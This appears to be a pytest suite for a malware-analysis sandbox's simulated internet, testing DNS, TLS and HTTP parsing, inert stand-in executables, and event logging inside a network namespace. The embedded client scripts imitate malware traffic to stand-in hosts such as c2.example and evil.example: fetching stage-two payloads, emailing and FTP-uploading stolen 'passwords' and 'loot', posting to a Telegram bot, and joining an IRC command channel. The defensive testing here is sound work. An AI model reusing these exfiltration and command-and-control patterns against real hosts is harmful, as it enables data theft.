"""The simulated internet: protocol parsing (pure) and the real server in a real network
namespace (``sandbox`` marker: root, iproute2, iptables, nsenter)."""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailvm.guest import fakenet as F
from mailvm.guest.sandbox import Netns, sandbox_tools

# ------------------------------------------------------------------ DNS (pure)


def query(name: str, qtype: int = 1, qid: int = 0x1234) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", qtype, 1)


def test_dns_query_round_trip_answers_with_the_given_address():
    q = F.parse_dns_query(query("Updates.Example.TEST"))
    assert q is not None and q.name == "updates.example.test" and q.qtype == 1 and q.id == 0x1234
    resp = F.build_dns_response(q, "198.18.0.7")
    qid, flags, qd, an, _, _ = struct.unpack("!6H", resp[:12])
    assert (qid, qd, an) == (0x1234, 1, 1) and flags & 0x8000 and flags & 0x0100 and not flags & 0x000F
    assert resp.endswith(socket.inet_aton("198.18.0.7"))
    empty = F.build_dns_response(F.parse_dns_query(query("x.example", qtype=28)), None)
    assert struct.unpack("!6H", empty[:12])[3] == 0 and len(empty) == len(query("x.example", 28))


@pytest.mark.parametrize("data", [
    b"", b"\x12\x34", query("a.b")[:-2],  # truncated
    struct.pack("!6H", 1, 0x8180, 1, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01",  # a response, not a query
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01",  # compression pointer loop
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\1\0\1",  # name > 255
    struct.pack("!6H", 1, 0x0100, 0, 0, 0, 0),  # no question
])
def test_malformed_dns_is_rejected(data):
    assert F.parse_dns_query(data) is None


@settings(max_examples=500, deadline=None)
@given(st.binary(max_size=600))
def test_dns_parser_never_raises(data):
    q = F.parse_dns_query(data)
    if q is not None:
        F.build_dns_response(q, "198.18.0.1")


def test_address_book_is_stable_distinct_and_bounded():
    book = F.AddressBook(max_names=3)
    a, b = book.address_for("a.example"), book.address_for("b.example")
    assert a == book.address_for("a.example") and a != b
    assert book.name_for(a) == "a.example" and book.name_for("203.0.113.1") is None
    assert all(ip.startswith("198.18.") or ip.startswith("198.19.") for ip in (a, b))
    book.address_for("c.example")
    overflow = book.address_for("d.example")
    assert overflow == book.address_for("e.example") and book.name_for(overflow) is None


# ------------------------------------------------------------------ TCP protocols (pure)


def client_hello(server_name: str | None) -> bytes:
    """A real ClientHello from Python's own TLS stack."""
    ctx = ssl.create_default_context()
    if server_name is None:
        ctx.check_hostname = False
    obj = ctx.wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO(), server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    return out.read()


def test_tls_sni_from_a_real_client_hello():
    hello = client_hello("cdn.evil.example")
    assert F.parse_tls_sni(hello) == "cdn.evil.example"
    assert F.first_chunk_complete(hello)
    assert F.parse_tls_sni(client_hello(None)) is None
    assert F.parse_tls_sni(hello[:40]) is None
    assert F.parse_tls_sni(b"GET / HTTP/1.1\r\n\r\n") is None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_sni_parser_never_raises(data):
    F.parse_tls_sni(b"\x16\x03\x01" + data)


def test_http_head_parsing():
    req = F.parse_http_head(b"GET /payload?x=1 HTTP/1.1\r\nHost: updates.example.test\r\nUser-Agent: Wget/1.21\r\n"
                            b"X: \xff\r\n\r\n")
    assert req == {"method": "GET", "target": "/payload?x=1",
                   "headers": {"host": "updates.example.test", "user-agent": "Wget/1.21", "x": "\xff"}}
    assert F.parse_http_head(b"GET http://proxy.example/a HTTP/1.0\n\n")["target"] == "http://proxy.example/a"
    assert F.parse_http_head(b"\x16\x03\x01\x00") is None
    assert F.parse_http_head(b"HELO bot\r\n") is None


def test_what_counts_as_a_download_and_a_complete_first_chunk():
    assert F.looks_like_download("/payload") and F.looks_like_download("/a/b.exe?x")
    assert not F.looks_like_download("/") and not F.looks_like_download("/index.html")
    assert not F.first_chunk_complete(b"GET / HTTP/1.1\r\nHost: x\r\n")
    assert F.first_chunk_complete(b"GET / HTTP/1.1\r\n\r\n") and F.first_chunk_complete(b"\x00\x01binary")
    assert not F.first_chunk_complete(b"\x16\x03\x01\x02\x00")


def test_nat_rules_spare_loopback_and_redirect_the_rest():
    rules = F.nat_rules(9)
    assert "-A OUTPUT -p tcp -d 127.0.0.0/8 -j RETURN" in rules
    assert "-A OUTPUT -p tcp -j REDIRECT --to-ports 9" in rules and rules.rstrip().endswith("COMMIT")


# ------------------------------------------------------------------ the real server in a namespace


def _reason() -> str | None:
    if os.geteuid() != 0:
        return "needs root"
    tools, missing = sandbox_tools()
    if missing:
        return "missing: " + ", ".join(missing)
    return None


REASON = _reason()
CLIENT = r"""
import json, socket, ssl, struct, sys
out = {}
q = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\x02c2\x07example\x00" + struct.pack("!HH", 1, 1)
for server in ("127.0.0.53", "9.9.9.9"):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    u.connect((server, 53)); u.send(q)
    out["dns_" + server] = socket.inet_ntoa(u.recv(512)[-4:])
ip = out["dns_127.0.0.53"]
s = socket.create_connection((ip, 8080), timeout=3)
s.sendall(b"GET /stage2.bin HTTP/1.1\r\nHost: c2.example:8080\r\nUser-Agent: bot/1.0\r\n\r\n")
data = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    data += chunk
out["http"] = data.decode("latin-1")
t = socket.create_connection(("192.0.2.77", 443), timeout=3)
ctx = ssl.create_default_context()
try:
    ctx.wrap_socket(t, server_hostname="cdn.evil.example").close()
except (ssl.SSLError, OSError) as exc:
    out["tls"] = type(exc).__name__
r = socket.create_connection(("10.1.2.3", 6000), timeout=3); r.sendall(b"\x00\x01secret"); r.close()
m = socket.create_connection(("203.0.113.9", 25), timeout=3); out["smtp"] = m.recv(100).decode(); m.close()
print(json.dumps(out))
"""


@pytest.fixture
def namespace():
    tools, _ = sandbox_tools()
    ns = Netns(tools)
    ns.create()
    try:
        yield tools, [tools["nsenter"], f"--net={ns.path}", "--"]
    finally:
        ns.delete()


def _events(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


@pytest.mark.sandbox
@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
def test_server_answers_dns_http_tls_and_logs_original_destinations(namespace, tmp_path):
    tools, enter = namespace
    redirect, detail = F.setup_namespace(enter, tools)
    assert redirect, detail
    events = tmp_path / "fakenet.jsonl"
    net = F.FakeNet(enter, str(events), redirect)
    t = time.monotonic()
    net.start()
    assert time.monotonic() - t < 1.0  # ready in well under a second
    try:
        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", CLIENT], capture_output=True, text=True,
                           timeout=30)
        assert r.returncode == 0, r.stderr
        out = json.loads(r.stdout)
    finally:
        pid = net.proc.pid
        net.stop()
    assert not os.path.exists(f"/proc/{pid}") or open(f"/proc/{pid}/stat").read().split()[2] == "Z"
    ip = out["dns_127.0.0.53"]
    assert ip.startswith("198.18.") and out["dns_9.9.9.9"] == ip  # any resolver address works, same answer
    assert out["http"].startswith("HTTP/1.1 200 OK") and F.PAYLOAD.decode() in out["http"]
    assert out["tls"] in ("SSLError", "SSLEOFError", "ConnectionResetError", "SSLZeroReturnError")
    assert out["smtp"].startswith("220 ")
    evs = _events(events)
    by = {}
    for e in evs:
        by.setdefault(e["type"], []).append(e)
    assert by["ready"][0]["redirect"] is True
    assert {e["name"] for e in by["dns"]} == {"c2.example"}
    http = by["http"][0]
    assert (http["url"], http["ua"], http["method"], http["served"], http["dst"], http["name"]) == (
        "http://c2.example:8080/stage2.bin", "bot/1.0", "GET", "payload", f"{ip}:8080", "c2.example")
    assert by["tls"][0]["sni"] == "cdn.evil.example" and by["tls"][0]["dst"] == "192.0.2.77:443"
    raw = next(e for e in by["tcp_data"] if e["dst"] == "10.1.2.3:6000")
    assert raw["preview"] == "\\x00\\x01secret" and raw["bytes"] == 8
    assert {e["dst"] for e in by["tcp"]} >= {f"{ip}:8080", "192.0.2.77:443", "10.1.2.3:6000", "203.0.113.9:25"}
    assert all(e["redirected"] for e in by["tcp"])


@pytest.mark.sandbox
@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
def test_fallback_listeners_without_iptables(namespace, tmp_path):
    tools, enter = namespace
    no_iptables = {k: v for k, v in tools.items() if k != "iptables-restore"}
    redirect, detail = F.setup_namespace(enter, no_iptables)
    assert not redirect and "not installed" in detail
    events = tmp_path / "fakenet.jsonl"
    net = F.FakeNet(enter, str(events), redirect)
    net.start()
    try:
        client = ("import socket\n"
                  "s = socket.create_connection(('203.0.113.5', 4444), timeout=3); s.sendall(b'hi'); s.close()\n"
                  "try:\n    socket.create_connection(('203.0.113.5', 4445), timeout=3)\n"
                  "except ConnectionRefusedError:\n    print('refused')\n")
        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", client], capture_output=True, text=True,
                           timeout=30)
    finally:
        net.stop()
    assert r.returncode == 0 and r.stdout.strip() == "refused", r.stderr
    evs = _events(events)
    tcp = [e for e in evs if e["type"] == "tcp"]
    assert len(tcp) == 1 and tcp[0]["dst"] == "203.0.113.5:4444" and tcp[0]["redirected"] is False
    assert 4444 in next(e for e in evs if e["type"] == "ready")["ports"]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_connections_still_in_the_backlog_are_logged_when_the_responder_stops(tmp_path):
    """A sample's last connect, made just before the run ends, sits in the listen backlog until the
    accept loop wakes: stopping must still log it (CI lost such a connection when stop() was a SIGKILL)."""
    events = F.EventLog(str(tmp_path / "ev.jsonl"))
    port = _free_port()
    server = F.Server(events, redirect=False, dns_port=0, fallback_ports=(port,))
    server.bind()
    try:
        clients = [socket.create_connection(("127.0.0.1", port), timeout=3) for _ in range(3)]
        for c in clients:
            c.sendall(b"GET /last.exe HTTP/1.1\r\nHost: late.example\r\n\r\n")
            c.close()
        server.stop.set()
        server.serve_forever()  # returns at once: the loop never accepted them
        server.drain()
    finally:
        for s in server.listeners + [server.udp]:
            s.close()
    evs = _events(tmp_path / "ev.jsonl")
    assert len([e for e in evs if e["type"] == "tcp"]) == 3, evs
    assert len([e for e in evs if e["type"] == "http" and "/last.exe" in json.dumps(e)]) == 3, evs


@pytest.mark.sandbox
@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
def test_server_exits_when_its_parent_dies(tmp_path):
    """A killed agent must not leave fakenet (or the namespace holder) behind."""
    code = (
        "import sys, time\n"
        f"sys.path.insert(0, {str(Path(__file__).resolve().parents[1])!r})\n"
        "from mailvm.guest import fakenet as F\n"
        "from mailvm.guest.sandbox import Netns, sandbox_tools\n"
        "tools, _ = sandbox_tools(); ns = Netns(tools); ns.create()\n"
        "enter = [tools['nsenter'], '--net=' + ns.path, '--']\n"
        "F.setup_namespace(enter, tools)\n"
        f"n = F.FakeNet(enter, {str(tmp_path / 'ev.jsonl')!r}, True); n.start()\n"
        "print(n.proc.pid, ns.holder.pid, flush=True); time.sleep(60)\n"
    )
    parent = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        fake_pid, holder_pid = map(int, parent.stdout.readline().split())
        assert os.path.exists(f"/proc/{fake_pid}") and os.path.exists(f"/proc/{holder_pid}")
    finally:
        parent.kill()
        parent.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and any(_alive(p) for p in (fake_pid, holder_pid)):
        time.sleep(0.05)
    assert not _alive(fake_pid) and not _alive(holder_pid)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


# ------------------------------------------------------------------ stand-ins (pure, and run for real)


@pytest.mark.parametrize("path,headers,kind", [
    ("/docs/dogovr2208.exe", {}, "pe_exe"),
    ("/a/Invoice.SCR?x=1", {}, "pe_exe"),
    ("/x/lib.dll", {}, "pe_dll"),
    ("/setup.msi", {}, "msi"),
    ("/bot", {}, "sh"),
    ("/bot.elf", {}, "elf"),
    ("/run.ps1", {}, "ps1"),
    ("/s.vbs", {}, "vbs"),
    ("/s.js", {}, "js"),
    ("/s.hta", {}, "hta"),
    ("/s.bat", {}, "bat"),
    ("/install.sh", {}, "sh"),
    ("/download.php?file=update.exe", {}, "pe_exe"),
    ("/get?id=7&name=a.vbs", {}, "vbs"),
    ("/payload", {"user-agent": "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)"}, "pe_exe"),
    ("/payload", {"accept": "application/x-msdownload"}, "pe_exe"),
    ("/payload", {"user-agent": "curl/7.88.1"}, "sh"),
    ("/notes.txt", {}, "text"),
    ("/", {}, None),
    ("/index.php?id=3", {}, None),
    ("/page.html", {}, None),
])
def test_a_request_gets_a_stand_in_of_its_type(path, headers, kind):
    assert F.standin_for(path, headers) == kind
    by = F.standin_choice(path, headers)[1]
    assert by == ("page" if kind is None else "name" if "." in path.rsplit("/", 1)[-1] else
                  "accept" if "accept" in headers else "client" if kind == "pe_exe" else "default")


def test_stand_ins_are_valid_files_of_their_type():
    import io

    import olefile
    import pefile

    for kind, dll in (("pe_exe", False), ("pe_dll", True)):
        pe = pefile.PE(data=F.STANDINS[kind][1])
        assert pe.is_dll() == dll and pe.is_exe() != dll
        assert pe.FILE_HEADER.Machine == 0x8664 and pe.OPTIONAL_HEADER.AddressOfEntryPoint == 0x1000
        assert not hasattr(pe, "DIRECTORY_ENTRY_IMPORT")  # imports nothing: it can do nothing
        code = pe.get_data(0x1000, 6)
        assert code.startswith(b"\xb8\x01\x00\x00\x00\xc3" if dll else b"\x31\xc0\xc3")  # return TRUE / return 0
    elf = F.STANDINS["elf"][1]
    assert elf[:4] == b"\x7fELF" and elf[4] == 2 and len(elf) < 200
    ole = olefile.OleFileIO(io.BytesIO(F.STANDINS["msi"][1]))
    assert ole.root.clsid == "000C1084-0000-0000-C000-000000000046" and ole.listdir() == []
    assert F.STANDINS["sh"][1] == F.PAYLOAD and F.PAYLOAD_MARKER.encode() in F.PAYLOAD


@pytest.mark.skipif(not sys.platform.startswith("linux") or os.uname().machine != "x86_64",
                    reason="the ELF stand-in is x86-64 Linux")
def test_elf_stand_in_runs_and_exits_zero(tmp_path):
    exe = tmp_path / "standin"
    exe.write_bytes(F.STANDINS["elf"][1])
    exe.chmod(0o755)
    assert subprocess.run([str(exe)], timeout=10).returncode == 0


def test_upload_names_and_mail_summary():
    body = (b'--b\r\nContent-Disposition: form-data; name="document"; filename="passwords.txt"\r\n\r\nx\r\n'
            b'--b\r\nContent-Disposition: form-data; name="f"; filename="screen.png"\r\n\r\ny\r\n--b--\r\n')
    assert F.upload_file_names(body) == ["passwords.txt", "screen.png"]
    mail = (b"From: a@x\r\nTo: b@y\r\nSubject: PW_user@DESKTOP\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
            b"--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"l.zip\"\r\n"
            b"\r\nAAAA\r\n--z--\r\n")
    assert F.mail_summary(mail) == {"subject": "PW_user@DESKTOP", "attachments": ["l.zip"]}
    assert F.mail_summary(b"\xff\xfe garbage")["attachments"] == []


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300), st.dictionaries(st.sampled_from(["user-agent", "accept"]), st.text(max_size=40)))
def test_stand_in_choice_and_upload_names_never_raise(data, headers):
    kind = F.standin_for(data.decode("latin-1"), headers)
    assert kind is None or kind in F.STANDINS
    F.upload_file_names(data)


EXFIL_CLIENT = r"""
import ftplib, io, json, smtplib, socket, urllib.request
from email.message import EmailMessage
out = {}
m = EmailMessage(); m["From"] = "bot@victim.example"; m["To"] = "drop@evil.example"; m["Subject"] = "PW_user"
m.set_content("passwords"); m.add_attachment(b"secret", maintype="application", subtype="zip", filename="log.zip")
with smtplib.SMTP("smtp.evil.example", 587, timeout=10) as s:
    s.ehlo("DESKTOP"); s.login("bot@evil.example", "hunter2"); s.send_message(m)
f = ftplib.FTP("ftp.evil.example", timeout=10); f.login("stealer", "pw")
f.storbinary("STOR loot.zip", io.BytesIO(b"Z" * 5000)); f.quit()
req = urllib.request.Request("http://api.telegram.org/bot123:ABC/sendDocument", method="POST",
                             data=b'--b\r\nContent-Disposition: form-data; name="document"; filename="p.txt"\r\n\r\nx\r\n--b--\r\n',
                             headers={"Content-Type": "multipart/form-data; boundary=b"})
out["post"] = urllib.request.urlopen(req, timeout=10).read().decode()
out["exe"] = urllib.request.urlopen("http://cdn.evil.example/a/upd.exe", timeout=10).read()[:2].decode()
i = socket.create_connection(("203.0.113.66", 6667), timeout=10)
i.sendall(b"NICK bot123\r\nUSER bot 0 * :bot\r\n")
got = b""
while b" 001 " not in got:
    got += i.recv(4096)
i.sendall(b"JOIN #cmd\r\n"); i.recv(4096); i.sendall(b"QUIT\r\n"); i.close()
out["irc"] = got.decode().split("\r\n")[0]
print(json.dumps(out))
"""


@pytest.mark.sandbox
@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
@pytest.mark.parametrize("redirect_mode", [True, False], ids=["redirect", "fallback"])
def test_exfiltration_protocols_are_accepted_and_logged(namespace, tmp_path, redirect_mode):
    tools, enter = namespace
    use = tools if redirect_mode else {k: v for k, v in tools.items() if k != "iptables-restore"}
    redirect, detail = F.setup_namespace(enter, use)
    assert redirect is redirect_mode, detail
    events = tmp_path / "fakenet.jsonl"
    net = F.FakeNet(enter, str(events), redirect)
    net.start()
    try:
        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", EXFIL_CLIENT], capture_output=True, text=True,
                           timeout=60)
    finally:
        net.stop()
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert out["exe"] == "MZ" and '"ok":true' in out["post"] and " 001 bot123 " in out["irc"]
    evs = _events(events)
    smtp = [e for e in evs if e["type"] == "smtp"]
    assert len(smtp) == 1 and smtp[0]["message"] is True, smtp
    assert (smtp[0]["auth_user"], smtp[0]["mail_from"], smtp[0]["rcpt"], smtp[0]["subject"],
            smtp[0]["attachments"], smtp[0]["port"]) == (
        "bot@evil.example", "bot@victim.example", ["drop@evil.example"], "PW_user", ["log.zip"], 587)
    ftp = {e["command"]: e for e in evs if e["type"] == "ftp"}
    assert ftp["LOGIN"]["user"] == "stealer"
    assert ftp["STOR"]["file"] == "loot.zip" and ftp["STOR"]["bytes"] == 5000 and ftp["STOR"]["preview"] == "Z" * 96
    http = {e["path"]: e for e in evs if e["type"] == "http"}
    post = http["/bot123:ABC/sendDocument"]
    assert post["method"] == "POST" and post["host"] == "api.telegram.org" and post["upload_files"] == ["p.txt"]
    assert post["served"] == "json" and post["content_type"].startswith("multipart/form-data")
    assert (http["/a/upd.exe"]["standin"], http["/a/upd.exe"]["standin_by"], http["/a/upd.exe"]["served"]) == (
        "pe_exe", "name", "payload")
    irc = [(e["command"], e["args"]) for e in evs if e["type"] == "irc"]
    assert irc[:3] == [("NICK", "bot123"), ("USER", "bot 0 * :bot"), ("JOIN", "#cmd")], irc
